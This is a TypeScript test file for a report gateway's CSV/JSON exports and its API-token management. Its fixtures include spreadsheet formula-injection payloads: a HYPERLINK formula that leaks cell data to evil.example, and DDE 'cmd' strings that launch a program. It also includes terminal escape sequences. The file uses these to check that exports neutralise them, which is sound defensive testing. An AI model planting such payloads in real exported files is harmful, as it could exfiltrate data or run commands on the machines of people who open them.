import { get } from 'node:http';
import type { AddressInfo } from 'node:net';
import { parse } from 'csv-parse/sync';
import { atomically } from '../../src/db/client';
import { runScript } from '../support/child-gateway';
import { loadSampleAreas, startTestGateway, type TestGateway } from '../support/test-gateway';

/**
 * What a coordinator takes home must not act on their machine: formula cells are neutralised in
 * both exports (CLI and HTTP), and escape sequences never reach a terminal. Tokens can be listed,
 * revoked and made to expire from the CLI, and the gateway refuses them at once.
 */
const DANGEROUS = [
  '=HYPERLINK("http://evil.example/?d="&A1,"Click for details")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
];
const ESCAPES = 'Market fight \u001b[2J\u001b[31mRED\u0007 bell \u009b31m C1';
const ADMIN = 'bootstrap-admin-token-for-exports';
/** Control characters a terminal or spreadsheet would act on (tab and line breaks are CSV's own). */
// eslint-disable-next-line no-control-regex -- finding control characters is the point
const CONTROL = /[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F-\u009F]/;

let t: TestGateway;
beforeEach(() => {
  t = startTestGateway({ BOOTSTRAP_ADMIN_TOKEN: ADMIN });
  loadSampleAreas(t);
  atomically(t.gateway.db, () => {
    for (const description of [...DANGEROUS, ESCAPES]) {
      t.gateway.services.reports.create({ source: 'api', status: 'new', language: 'en', category: 'violence', areaCode: 'KE-17-01-05', description });
    }
    t.gateway.services.reports.create({ source: 'api', status: 'new', language: 'en', category: 'violence', areaCode: 'KE-30-01', description: 'Nairobi report' });
  });
});
afterEach(() => t.close());

/** Every cell a spreadsheet would read as a formula: starts with = + - @ tab or CR. */
const formulaCells = (csv: string) => (parse(csv, { columns: true, relax_quotes: true }) as Record<string, string>[]).flatMap((row) => Object.values(row)).filter((cell) => /^[=+\-@\t\r]/.test(cell));

function checkCsv(csv: string): void {
  expect(formulaCells(csv)).toEqual([]);
  const descriptions = (parse(csv, { columns: true }) as Record<string, string>[]).map((r) => r.description);
  // OWASP's rule: the text is kept, behind a leading ' that makes it plain text.
  for (const dangerous of DANGEROUS) expect(descriptions).toContain(`'${dangerous}`);
  expect(csv).not.toMatch(CONTROL);
  expect(descriptions).toContain('Market fight [2J[31mRED bell 31m C1');
}

describe('safe exports', () => {
  it('when the CLI exports CSV and JSON, then no cell is a formula and no control character reaches the terminal', async () => {
    const csv = await runScript('scripts/cli.ts', ['reports', 'export', '--format', 'csv'], { DATABASE_PATH: t.dbPath });
    expect(csv.code).toBe(0);
    checkCsv(csv.output);
    const json = await runScript('scripts/cli.ts', ['reports', 'export', '--format', 'json'], { DATABASE_PATH: t.dbPath });
    expect(json.output).not.toMatch(CONTROL);
    expect((JSON.parse(json.output) as unknown[]).length).toBe(DANGEROUS.length + 2);
  });

  it('when a coordinator exports over HTTP, then the CSV is as safe, limited to the token\'s area, and the export is audited', async () => {
    const response = await t.http.get('/api/reports/export?format=csv').set('authorization', `Bearer ${ADMIN}`);
    expect(response.status).toBe(200);
    expect(response.headers['content-type']).toContain('text/csv');
    checkCsv(response.text);

    const { token } = t.gateway.services.tokens.create({ name: 'Nairobi desk', role: 'viewer', areaCode: 'KE-30' });
    const scoped = await t.http.get('/api/reports/export?format=json').set('authorization', `Bearer ${token}`);
    expect((scoped.body as { description: string }[]).map((r) => r.description)).toEqual(['Nairobi report']);
    expect(t.gateway.db.$client.prepare("select actor from audit_log where action = 'reports_export' order by id").pluck().all()).toEqual(['token bootstrap admin', 'token Nairobi desk']);
    expect((await t.http.get('/api/reports/export?format=xls').set('authorization', `Bearer ${ADMIN}`)).status).toBe(400);
  });
});

describe('a large export over a slow link', () => {
  it('when the coordinator closes the download halfway, then the gateway logs an abort, not a failure, and goes on serving', async () => {
    // About 60 MB of CSV, far more than loopback buffers hold while the client does not read. Rows
    // written directly, sharing one encrypted description, so that making them takes no time.
    const description = t.gateway.services.vault.encrypt(`a long account ${'x'.repeat(20_000)}`);
    const insert = t.gateway.db.$client.prepare(
      "insert into reports (id, ref, category, area_code, urgent, status, source, language, description_enc, created_at, updated_at) values (?, ?, 'violence', 'KE-30-01', 0, 'new', 'api', 'en', ?, ?, ?)",
    );
    const now = new Date().toISOString();
    atomically(t.gateway.db, () => {
      for (let i = 0; i < 3000; i++) insert.run(`bulk-${i}`, `Z${String(i).padStart(5, '0')}`, description, now, now);
    });
    const server = t.gateway.app.listen(0, '127.0.0.1');
    await new Promise((resolve) => server.once('listening', resolve));
    try {
      const { port } = server.address() as AddressInfo;
      await new Promise<void>((resolve, reject) => {
        // The headers arrive, nothing is read, then the coordinator gives up.
        const request = get({ host: '127.0.0.1', port, path: '/api/reports/export?format=csv', headers: { authorization: `Bearer ${ADMIN}` } }, () => {
          setTimeout(() => {
            request.destroy();
            resolve();
          }, 200);
        });
        request.on('error', (error) => ((error as { code?: string }).code === 'ECONNRESET' ? resolve() : reject(error)));
      });
      await new Promise((resolve) => setTimeout(resolve, 200));
      expect(t.logs.filter((line) => line.includes('"request failed"'))).toEqual([]);
      expect(t.logs.filter((line) => line.includes('"request aborted"') && line.includes('/api/reports/export'))).toHaveLength(1);
      expect((await t.http.get('/healthz')).status).toBe(200);
    } finally {
      server.close();
    }
  });
});

describe('API tokens from the CLI', () => {
  it('when a token is created with an expiry, listed and then revoked, then it works until revoked and gets 401 after', async () => {
    const created = await runScript('scripts/cli.ts', ['token', 'create', '--name', 'Kisumu desk', '--role', 'coordinator', '--area', 'KE-17', '--expires', '30'], { DATABASE_PATH: t.dbPath });
    expect(created.code).toBe(0);
    const token = created.output.split('\n')[0]!;
    const id = /Token (\S+) for "Kisumu desk" \(coordinator, area KE-17, expires 20\d\d-/.exec(created.output)![1]!;
    expect((await t.http.get('/api/reports').set('authorization', `Bearer ${token}`)).status).toBe(200);

    const listed = await runScript('scripts/cli.ts', ['token', 'list'], { DATABASE_PATH: t.dbPath });
    expect(listed.output).toMatch(new RegExp(`${id}\\s+Kisumu desk\\s+coordinator\\s+KE-17\\s+active\\s+20\\d\\d-`));
    expect(listed.output).not.toContain(token);

    const revoked = await runScript('scripts/cli.ts', ['token', 'revoke', id], { DATABASE_PATH: t.dbPath });
    expect(revoked.output).toContain(`Token ${id} revoked.`);
    expect((await t.http.get('/api/reports').set('authorization', `Bearer ${token}`)).status).toBe(401);
    expect((await runScript('scripts/cli.ts', ['token', 'list'], { DATABASE_PATH: t.dbPath })).output).toMatch(new RegExp(`${id}\\s+Kisumu desk\\s+coordinator\\s+KE-17\\s+revoked`));
    const unknown = await runScript('scripts/cli.ts', ['token', 'revoke', 'no-such-id'], { DATABASE_PATH: t.dbPath });
    expect(unknown.code).toBe(1);
  });

  it('when an admin revokes a token over the API, then the token gets 401 and the revocation is audited', async () => {
    const { token, id } = t.gateway.services.tokens.create({ name: 'field laptop', role: 'viewer' });
    const list = await t.http.get('/api/tokens').set('authorization', `Bearer ${ADMIN}`);
    expect(list.body.items).toEqual([expect.objectContaining({ id, name: 'field laptop', role: 'viewer', state: 'active' })]);
    expect(JSON.stringify(list.body)).not.toContain(token);
    const deleted = await t.http.delete(`/api/tokens/${id}`).set('authorization', `Bearer ${ADMIN}`);
    expect(deleted.body).toMatchObject({ id, state: 'revoked', outcome: 'revoked' });
    expect((await t.http.get('/api/reports').set('authorization', `Bearer ${token}`)).status).toBe(401);
    expect(t.gateway.db.$client.prepare("select subject from audit_log where action = 'token_revoke'").pluck().all()).toEqual([id]);
  });
});
